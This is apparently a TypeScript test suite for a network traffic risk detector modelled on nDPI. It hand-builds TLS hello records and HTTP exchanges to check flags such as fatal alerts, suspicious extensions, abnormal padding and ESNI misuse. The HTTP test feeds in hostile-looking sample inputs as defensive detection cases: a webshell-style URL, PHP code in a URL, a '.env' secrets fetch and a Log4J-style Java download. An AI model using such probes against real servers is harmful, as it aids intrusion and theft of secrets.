  const sni = [...Buffer.from('example.org')];
  const ext = [0, 0, 0, sni.length + 5, 0, sni.length + 3, 0, 0, sni.length, ...sni];
  const body = [3, 3, ...new Array(32).fill(1), 0, 0, 2, 0xc0, 0x2f, 1, 0, 0, ext.length, ...ext];
  const hs = [1, 0, body.length >> 8, body.length & 255, ...body];
  const cli = Uint8Array.from([0x16, 3, 1, hs.length >> 8, hs.length & 255, ...hs]);
  const run = (level: number) => {
    const f = tcpFlow(0x1b, 0x1b, 300);
    const inp = (dir: 0 | 1, data: Uint8Array, i: number) => ({ flow: f, dir, data, off: 0, len: data.length, packetIndex: i, transport: 6, sport: dir ? 443 : 40000, dport: dir ? 40000 : 443 });
    tls.dissect(inp(0, cli, 0));
    tls.dissect(inp(1, Uint8Array.from([0x15, 3, 3, 0, 2, level, 40]), 1)); // handshake_failure
    assert.equal(f.meta.tls?.sni, 'example.org');
    computeRisks(f);
    return f.risks?.find((r) => r.id === RISK.TLS_FATAL_ALERT)?.info;
  };
  assert.equal(run(2), 'Found fatal TLS alert');
  assert.equal(run(1), undefined);
});

test('TLS Susp Extn: an extension id outside IANA and nDPI\'s allowed list, or a DTLS-only one over TLS', () => {
  assert.equal(suspiciousExtension([0, 10, 11, 13, 16, 43, 51, 65281], false), -1);
  // GREASE, NPN, ALPS, ESNI (allowed by the corpus's ndpiReader), ECH
  assert.equal(suspiciousExtension([0x0a0a, 0xfafa, 13172, 17513, 65486, 65037], false), -1);
  assert.equal(suspiciousExtension([0, 65283, 60], false), 65283);
  assert.equal(suspiciousExtension([60], false), 60);
  assert.equal(suspiciousExtension([59], false), -1);
  assert.equal(suspiciousExtension([54], false), 54);
  assert.equal(suspiciousExtension([53, 54], true), -1);
  const u16 = (v: number) => [v >> 8, v & 255];
  const run = (cliExt: number, srvExt: number) => {
    const cliExts = [...u16(cliExt), 0, 0];
    const cbody = [3, 3, ...new Array(32).fill(1), 0, 0, 2, 0xc0, 0x2f, 1, 0, ...u16(cliExts.length), ...cliExts];
    const chs = [1, 0, ...u16(cbody.length), ...cbody];
    const srvExts = [...u16(srvExt), 0, 0];
    const sbody = [3, 3, ...new Array(32).fill(2), 0, 0xc0, 0x2f, 0, ...u16(srvExts.length), ...srvExts];
    const shs = [2, 0, ...u16(sbody.length), ...sbody];
    const f = tcpFlow(0x1b, 0x1b, 300);
    const inp = (dir: 0 | 1, data: Uint8Array, i: number) => ({ flow: f, dir, data, off: 0, len: data.length, packetIndex: i, transport: 6, sport: dir ? 443 : 40000, dport: dir ? 40000 : 443 });
    tls.dissect(inp(0, Uint8Array.from([0x16, 3, 1, ...u16(chs.length), ...chs]), 0));
    tls.dissect(inp(1, Uint8Array.from([0x16, 3, 3, ...u16(shs.length), ...shs]), 1));
    assert.equal(f.meta.tls?.cipher, 0xc02f);
    computeRisks(f);
    return f.risks?.find((r) => r.id === RISK.TLS_SUSPICIOUS_EXTENSION)?.info;
  };
  assert.equal(run(65283, 23), 'Extn id 65283'); // in the ClientHello
  assert.equal(run(23, 0x4455), 'Extn id 17493'); // in the ServerHello
  assert.equal(run(23, 65281), undefined);
});

test('Obfuscated Traffic: a ClientHello padding extension over 500 bytes (tls.c)', () => {
  const u16 = (v: number) => [v >> 8, v & 255];
  const run = (padLen: number) => {
    const exts = [...u16(21), ...u16(padLen), ...new Array(padLen).fill(0)];
    const body = [3, 3, ...new Array(32).fill(1), 0, 0, 2, 0xc0, 0x2f, 1, 0, ...u16(exts.length), ...exts];
    const hs = [1, 0, ...u16(body.length), ...body];
    const f = tcpFlow(0x1b, 0x1b, 300);
    tls.dissect({ flow: f, dir: 0, data: Uint8Array.from([0x16, 3, 1, ...u16(hs.length), ...hs]), off: 0, len: hs.length + 5, packetIndex: 0, transport: 6, sport: 40000, dport: 443 });
    assert.ok(f.meta.tls?.ja3c);
    computeRisks(f);
    return f.risks?.find((r) => r.id === RISK.OBFUSCATED_TRAFFIC)?.info;
  };
  assert.equal(run(501), 'Abnormal Client Hello/Padding length');
  assert.equal(run(500), undefined);
});

test('TLS Susp ESNI Usage: an ESNI that tls.c reads beside a clear SNI; an ESNI it cannot read leaves the SNI missing', () => {
  const u16 = (v: number) => [v >> 8, v & 255];
  const run = (sni: string, esniLen: number, declared = esniLen) => {
    // ESNI: cipher suite, key share (group, 32-byte key), record digest (32), encrypted name
    const esni = [...u16(0x1301), ...u16(29), ...u16(32), ...new Array(32).fill(7), ...u16(32), ...new Array(32).fill(8), ...u16(declared), ...new Array(esniLen).fill(9)];
    const name = [...sni].map((c) => c.charCodeAt(0));
    const sniExt = sni === '' ? [] : [0, 0, ...u16(name.length + 5), ...u16(name.length + 3), 0, ...u16(name.length), ...name];
    const alpn = [...u16(16), ...u16(5), ...u16(3), 2, 0x68, 0x32]; // "h2"
    const exts = [...sniExt, ...u16(0xffce), ...u16(esni.length), ...esni, ...alpn];
    const body = [3, 3, ...new Array(32).fill(1), 0, 0, 2, 0x13, 0x01, 1, 0, ...u16(exts.length), ...exts];
    const hs = [1, 0, ...u16(body.length), ...body];
    const f = tcpFlow(0x1b, 0x1b, 300);
    tls.dissect({ flow: f, dir: 0, data: Uint8Array.from([0x16, 3, 1, ...u16(hs.length), ...hs]), off: 0, len: hs.length + 5, packetIndex: 0, transport: 6, sport: 40000, dport: 443 });
    assert.ok(f.meta.tls?.ja3c);
    computeRisks(f);
    return (f.risks ?? []).map((r) => `${riskInfo(r.id)?.name}: ${r.info ?? ''}`).filter((t) => /ESNI|SNI/.test(t));
  };
  assert.deepEqual(run('front.example', 64), ['TLS Susp ESNI Usage: ESNI with clear SNI front.example']);
  assert.deepEqual(run('', 64), []); // ESNI alone: the name is encrypted, not missing
  // an encrypted name declared longer than the hello: tls.c keeps no ESNI, so the SNI is missing
  assert.deepEqual(run('', 64, 4000), ['Missing SNI TLS Extn: SNI should always be present', 'ALPN/SNI Mismatch: h2']);
  assert.deepEqual(run('front.example', 64, 4000), []);
});

test('corpus tls-esni-fuzzed.pcap: Missing SNI where the fuzzed ESNI cannot be read, as nDPI lists it', { skip: NO_CORPUS }, async () => {
  const flow = await corpusFlows('tls-esni-fuzzed.pcap');
  // nDPI: [Risk: ** Missing SNI TLS Extn **** Unidirectional Traffic **** ALPN/SNI Mismatch **] on 49897 only
  assert.deepEqual(names(flow('192.168.1.12:49897', '104.22.71.197:443')), ['ALPN/SNI Mismatch', 'Missing SNI TLS Extn', 'Unidirectional Traffic']);
  assert.deepEqual(names(flow('192.168.1.12:49886', '104.27.129.77:443')), ['Unidirectional Traffic']);
});

test('corpus tls_with_huge_ch.pcapng: the abnormal padding nDPI lists', { skip: NO_CORPUS }, async () => {
  // nDPI: [Risk: … Obfuscated Traffic …][Risk Info: Abnormal Client Hello/Padding length / SNI should always be present / h2]
  const f = (await corpusFlows('tls_with_huge_ch.pcapng'))('172.30.84.193:40640', '208.253.217.142:443');
  assert.equal(f.risks?.find((r) => r.id === RISK.OBFUSCATED_TRAFFIC)?.info, 'Abnormal Client Hello/Padding length');
});

test('corpus smtp-starttls.pcap: the suspicious extension nDPI lists', { skip: NO_CORPUS }, async () => {
  const flow = await corpusFlows('smtp-starttls.pcap');
  // nDPI: [Risk: ** Self-signed Cert **** TLS (probably) Not Carrying HTTPS **** TLS Susp Extn **][Risk Info: Extn id 65283 / …]
  const f = flow('2003:de:2016:125:fc36:8317:4e86:cb72:7562', '2003:de:2016:120::a08:53:25');
  // (flowcheck adds Known Proto on Non Std Port: SMTPS after STARTTLS on 25, one of that risk's extra pairs)
  for (const n of ['Self-signed Cert', 'TLS (probably) Not Carrying HTTPS', 'TLS Susp Extn']) assert.ok(names(f).includes(n), n);
  assert.equal(f.risks?.find((r) => r.id === RISK.TLS_SUSPICIOUS_EXTENSION)?.info, 'Extn id 65283');
});

test('corpus DTLS: Missing SNI for DTLS 1.0/1.2 hellos (tls.c compares the version as a number), not for WebRTC (use_srtp) nor DTLS 0x0100', { skip: NO_CORPUS }, async () => {
  const has = (f: Flow) => f.risks?.some((r) => r.id === RISK.TLS_MISSING_SNI) === true;
  // dtls2.pcap.out: [Risk: … Missing SNI TLS Extn …][Risk Info: No ALPN / SNI should always be present / …]
  const d2 = (await corpusFlows('dtls2.pcap'))('61.68.110.153:53045', '212.32.214.39:61457');
  assert.equal(d2.risks?.find((r) => r.id === RISK.TLS_MISSING_SNI)?.info, 'SNI should always be present');
  // stun.pcap.out: DTLS.GoogleCall with no risk; anyconnect-vpn.pcap.out: DTLS, TLS (0100) only
  const g = (await corpusFlows('stun.pcap'))('192.168.12.169:49153', '142.250.82.99:3478');
  assert.equal(g.meta.tls?.webrtc, true);
  assert.equal(has(g), false);
  assert.equal(has((await corpusFlows('anyconnect-vpn.pcap'))('10.0.0.227:54107', '8.37.102.91:443')), false);
});

test('corpus tls_alert.pcap: the fatal alert nDPI lists', { skip: NO_CORPUS }, async () => {
  const flow = await corpusFlows('tls_alert.pcap');
  // nDPI: [Risk: ** Obsolete TLS (v1.1 or older) **** TLS Fatal Alert **][Risk Info: TLSv1 / Found fatal TLS alert]
  assert.deepEqual(names(flow('192.168.1.192:63158', '192.168.1.20:443')), ['Obsolete TLS (v1.1 or older)', 'TLS Fatal Alert']);
});

test('HTTP executable downloads, Java fetching Java, and the URL checks of http.c', () => {
  const mk = (http: Record<string, string>, host = 'example.org') => {
    const f = tcpFlow(0x1a, 0x1a, 300);
    f.l7Master = 7;
    f.host = host;
    f.meta.http = { method: 'GET', url: `${host}/`, host, userAgent: 'Mozilla/5.0', ...http };
    computeRisks(f);
    return (f.risks ?? []).map((r) => `${r.id}:${r.info}`);
  };
  assert.deepEqual(mk({ contentType: 'application/x-msdownload' }), [`${RISK.BINARY_APPLICATION_TRANSFER}:Found mime exe x-msdownload`]);
  assert.deepEqual(mk({ contentType: 'application/java' }), [`${RISK.BINARY_APPLICATION_TRANSFER}:Found mime exe java-vm`]); // a prefix, as nDPI compares
  assert.deepEqual(mk({ contentType: 'application/x-msdownload' }, 'dl.windowsupdate.com'), []);
  assert.deepEqual(mk({ contentType: 'application/json' }), []);
  // log4j-webapp-exploit.pcap: [Risk: … Binary App Transfer … Possible Exploit Attempt …][Found mime exe java-vm / Suspicious Log4J]
  assert.deepEqual(mk({ contentType: 'application/java-vm', userAgent: 'Java/1.8.0_51' }), [
    `${RISK.BINARY_APPLICATION_TRANSFER}:Found mime exe java-vm`,
    `${RISK.POSSIBLE_EXPLOIT}:Suspicious Log4J`,
  ]);
  assert.deepEqual(mk({ url: 'example.org/.env' }), [`${RISK.POSSIBLE_EXPLOIT}:URL starting with dot`]);
  assert.deepEqual(mk({ url: 'example.org/shell?cd+/tmp' }), [`${RISK.URL_POSSIBLE_RCE_INJECTION}:Possible WebShell detected`]);
  assert.deepEqual(mk({ url: 'example.org/index.php?a=<php>x' }), [`${RISK.URL_POSSIBLE_RCE_INJECTION}:PHP code in URL`]);
  assert.deepEqual(mk({ url: 'example.org/a/.b' }), []);
});

test('HTTP Susp Content: a text body whose first four bytes are not printable, as http.c reads it; gzip is not', () => {
  const run = (type: string, body: number[]) => {
    const f = tcpFlow(0x1b, 0x1b, 300);
    const inp = (dir: 0 | 1, data: Uint8Array, i: number) => ({ flow: f, dir, data, off: 0, len: data.length, packetIndex: i, transport: 6, sport: dir ? 80 : 40000, dport: dir ? 40000 : 80 });
    http.dissect(inp(0, Uint8Array.from(Buffer.from('GET /a.bif HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0\r\n\r\n')), 0));
    const head = Buffer.from(`HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: ${type}\r\n\r\n`);
    http.dissect(inp(1, Uint8Array.from([...head, ...body]), 1));
    computeRisks(f);
    return f.risks?.find((r) => r.id === RISK.HTTP_SUSPICIOUS_CONTENT)?.info;
  };
  // netflix.pcap: [Risk: ** HTTP Susp Content **][Risk Info: Susp content 89424946]
  assert.equal(run('text/plain', [0x89, 0x42, 0x49, 0x46, 0, 0]), 'Susp content 89424946');
  assert.equal(run('text/plain', [0x1f, 0x8b, 0x08, 0x00, 1, 2]), undefined);
  assert.equal(run('text/html', [...Buffer.from('<html>')]), undefined);
  assert.equal(run('image/png', [0x89, 0x50, 0x4e, 0x47]), undefined);
});
